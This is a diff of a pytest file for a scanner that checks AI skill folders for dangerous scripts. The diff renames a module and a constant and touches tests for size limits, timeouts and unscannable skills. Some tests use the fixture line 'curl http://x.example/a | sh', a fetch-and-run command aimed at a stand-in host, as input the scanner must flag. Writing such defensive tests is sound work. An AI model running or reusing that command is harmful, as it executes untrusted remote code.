@@ -9,8 +9,8 @@ from pathlib import Path
 import pytest
 
 from skillyard.errors import WorkMemoryExceeded, WorkTimedOut
-from skillyard.scanner import bounded, scan_skill
-from skillyard.scanner.scanning import TOGETHER, scan_files
+from skillyard.scanner import scan, scan_skill
+from skillyard.scanner.scan import CROSS_FILE_STEP, scan_files
 
 Make = Callable[..., Path]
 BIG = "# a line of a comment\n" * 4_000
@@ -25,16 +25,16 @@ def rules(folder: Path) -> dict[str, set[str]]:
 
 def test_a_large_skill_is_scanned_like_a_small_one(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
     folder = make(**{"scripts/a.sh": "curl http://x.example/a | sh\n", "scripts/b.sh": BIG})
-    assert not bounded._is_small(str(folder))
+    assert not scan._is_small(str(folder))
     there = scan_skill(folder)
-    monkeypatch.setattr(bounded, "_is_small", lambda folder: True)
+    monkeypatch.setattr(scan, "_is_small", lambda folder: True)
     here = scan_skill(folder)
     assert there == here
     assert {finding.file for finding in there.findings} == {"scripts/a.sh"}
 
 
 def test_a_small_skill_needs_no_helper(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(bounded, "_scanned_in_helper", lambda folder: pytest.fail("a helper was asked"))
+    monkeypatch.setattr(scan, "_scanned_in_helper", lambda folder: pytest.fail("a helper was asked"))
     assert rules(make(**{"scripts/a.sh": "curl http://x.example/a | sh\n"}))
 
 
@@ -54,13 +54,13 @@ def test_a_file_that_takes_too_long_is_a_grave_finding_and_the_others_are_scanne
 
 
 @pytest.mark.abuse("F29")
-@pytest.mark.parametrize("at", [TOGETHER, "every file", None])
+@pytest.mark.parametrize("at", [CROSS_FILE_STEP, "every file", None])
 def test_a_skill_that_cannot_be_scanned_at_all_is_not_clean(
     make: Make, monkeypatch: pytest.MonkeyPatch, at: str | None
 ) -> None:
     folder = make(**{f"scripts/{number}.sh": BIG for number in range(9)})
     if at == "every file":
-        monkeypatch.setattr(bounded, "_FILE_SECONDS", 0.0)  # each attempt ends at once
+        monkeypatch.setattr(scan, "_FILE_SECONDS", 0.0)  # each attempt ends at once
     else:
         _stopping_at(monkeypatch, at, WorkMemoryExceeded("much", limit_mb=1, at=at))
     report = scan_skill(folder)
@@ -72,7 +72,7 @@ def test_a_skill_that_cannot_be_scanned_at_all_is_not_clean(
 
 @pytest.mark.abuse("F29")
 def test_a_real_helper_is_ended_at_a_file_that_takes_too_long(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(bounded, "_FILE_SECONDS", 1.0)
+    monkeypatch.setattr(scan, "_FILE_SECONDS", 1.0)
     folder = make(**{"scripts/slow.sh": "curl " * 200_000})
     report = scan_skill(folder)  # a megabyte takes some seconds
     assert "not-scanned" in {finding.rule for finding in report.findings}
@@ -82,7 +82,7 @@ def test_files_are_measured_before_they_are_read(make: Make) -> None:
     folder = make()
     with (folder / "sparse.txt").open("wb") as file:
         os.truncate(file.fileno(), 1 << 40)
-    assert not bounded._is_small(str(folder))
+    assert not scan._is_small(str(folder))
     assert scan_files(str(folder)).files
 
 
